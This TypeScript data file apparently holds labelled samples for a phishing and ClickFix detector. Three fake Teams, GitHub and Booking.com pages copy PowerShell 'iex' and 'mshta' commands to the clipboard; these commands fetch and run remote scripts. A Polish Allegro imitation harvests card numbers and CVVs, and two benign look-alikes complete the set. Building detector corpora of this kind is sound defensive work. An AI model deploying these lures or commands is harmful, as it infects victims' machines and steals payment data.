import type { Entry } from '../entry.js';

/** More of several families: ClickFix variants, kits in further languages, tech-support, and benign look-alikes of each. */
export const entries: Entry[] = [
  {
    id: 'clickfix-teams-update',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://teams-meeting-join.live-events.site/l/meetup-join/19',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Microsoft Teams</title></head>
<body style="font-family:Segoe UI;background:#f5f5f5"><div style="width:520px;margin:100px auto;background:#fff;padding:30px"><h2>Teams couldn't start the meeting</h2><p>Your Teams client is missing a required update (error 0x80131500).</p>
<p>Fix it in three steps:</p><ol><li>Click <b>Copy update command</b></li><li>Open the Run dialog: <b>Windows key + R</b></li><li>Paste with <b>Ctrl + V</b> and press <b>OK</b></li></ol><button id="u">Copy update command</button></div>
<script>u.onclick=function(){var x='C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe -nop -w 1 -c "$w=New-Object Net.WebClient;$w.DownloadString(\\'https://live-events.site/tu\\')|iex"';navigator.clipboard.writeText(x);this.textContent='Copied';};</script></body></html>`,
  },
  {
    id: 'clickfix-github-issue-alert',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://github-security-alert.dev/advisory/GHSA-2026-8812',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Security alert · GitHub</title></head>
<body style="font-family:-apple-system,Segoe UI;background:#0d1117;color:#e6edf3"><div style="width:700px;margin:60px auto;border:1px solid #30363d;border-radius:6px;padding:24px"><h2>⚠ Security vulnerability detected in your repository</h2>
<p>A critical vulnerability was found. Verify that you are the repository owner to view the advisory.</p><button id="v" style="background:#238636;color:#fff;border:0;border-radius:6px;padding:8px 16px">Verify</button>
<div id="i" hidden><p>Open the Run dialog (Win+R), paste (Ctrl+V) the verification command and press Enter.</p></div></div>
<script>v.onclick=()=>{navigator.clipboard.writeText('powershell.exe -W Hidden -command $url = \\'https://github-security-alert.dev/v.ps1\\'; $r = iwr $url; iex $r.Content');i.hidden=false;};</script></body></html>`,
  },
  {
    id: 'clickfix-hidden-textarea-bsod',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://booking-confirm-guest.com/reservation/8841',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Booking.com | Reservation 8841</title></head>
<body style="font-family:Arial"><div style="width:500px;margin:80px auto;border:1px solid #ddd;padding:24px"><h2>Booking.com</h2><p>Before viewing the guest's complaint, please confirm you are not a robot.</p>
<label><input type="checkbox" id="cb"> I'm not a robot</label><textarea id="h" style="position:absolute;left:-9999px">mshta https://booking-confirm-guest.com/cdn/v.hta #  Booking.com security check ID 8841</textarea>
<div id="n" style="display:none"><p><b>Verification steps</b><br>1. Press Windows Button + R<br>2. Press CTRL + V<br>3. Press Enter</p></div></div>
<script>cb.onclick=function(){h.select();document.execCommand('copy');n.style.display='block';};</script></body></html>`,
  },
  {
    id: 'kit-allegro-pl',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://allegro-lokalnie.oferta-platnosc.pl-kupujacy.com/oferta/14402/platnosc',
    body: `<!DOCTYPE html><html lang="pl"><head><meta charset="utf-8"><title>Allegro Lokalnie - Odbierz płatność</title></head>
<body style="font-family:Arial"><div style="background:#ff5a00;color:#fff;padding:14px 30px;font-weight:bold">allegro lokalnie</div><div style="width:480px;margin:30px auto"><h2>Kupujący opłacił Twój przedmiot</h2><p>Aby otrzymać środki (450,00 zł), potwierdź dane karty, na którą mamy przelać pieniądze.</p>
<form method="post" action="odbior.php"><input name="imie" placeholder="Imię i nazwisko"><input name="karta" placeholder="Numer karty"><input name="data" placeholder="MM/RR"><input name="cvv" placeholder="CVV2/CVC2"><input name="saldo" placeholder="Aktualne saldo karty"><button style="background:#ff5a00;color:#fff;border:0;padding:10px 30px">Odbierz środki</button></form></div></body></html>`,
  },
  {
    id: 'clean-captcha-real-recaptcha-form',
    label: 'clean',
    kind: 'scary-script',
    url: 'https://www.hillside-vineyards.com/contact/',
    body: `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Contact | Hillside Vineyards</title><script src="https://www.google.com/recaptcha/api.js" async defer></script></head>
<body><main><h1>Contact us</h1><form method="post" action="/contact/send"><input name="name" placeholder="Name"><input name="email" type="email" placeholder="Email"><textarea name="message"></textarea>
<div class="g-recaptcha" data-sitekey="6LdXk2cUAAAAAN2w9v7Bq8pXb8m1HUE7t2eQ5x0y"></div><button>Send</button></form><p>Tasting room open Fri–Sun 11–5.</p></main></body></html>`,
  },
  {
    id: 'clean-crypto-exchange-deposit-address',
    label: 'clean',
    kind: 'wallet-dapp',
    url: 'https://www.kraken.com/u/funding/deposit?asset=BTC',
    body: `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Deposit Bitcoin | Kraken</title></head>
<body><main><h1>Deposit Bitcoin (BTC)</h1><p>Send only BTC on the Bitcoin network to this address. Deposits need 3 confirmations.</p><p><code id="addr">bc1q9h6tq0vq3kx0m5d8r2p7c4n6y0z8w2e4t6u8i0</code> <button onclick="navigator.clipboard.writeText(document.getElementById('addr').textContent)">Copy address</button></p>
<p>Kraken will never ask you to send crypto to "verify" your account or to receive a bonus.</p></main></body></html>`,
  },
];
